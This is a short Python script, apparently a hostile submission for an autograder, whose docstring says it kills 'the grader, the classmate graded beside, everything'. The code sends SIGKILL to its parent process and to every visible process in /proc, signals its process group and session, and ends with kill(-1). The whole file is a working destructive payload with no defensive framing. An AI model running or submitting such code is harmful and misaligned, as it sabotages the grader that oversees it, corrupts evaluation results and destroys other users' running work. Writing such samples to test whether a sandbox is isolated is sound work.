"""Killing the parent and the siblings: the grader, the classmate graded beside, everything.

SIGKILL to the parent, to every process visible in /proc, to the process group and session,
and finally kill(-1), which reaches every process the user may signal.
"""
import os
import signal

try:
    os.kill(os.getppid(), signal.SIGKILL)
except OSError:
    pass
for _name in os.listdir("/proc"):
    if _name.isdigit() and int(_name) not in (os.getpid(), 1):
        try:
            os.kill(int(_name), signal.SIGKILL)
        except OSError:
            pass
for _target in (0, -os.getpgid(0)):
    try:
        os.kill(_target, signal.SIGTERM)
    except OSError:
        pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
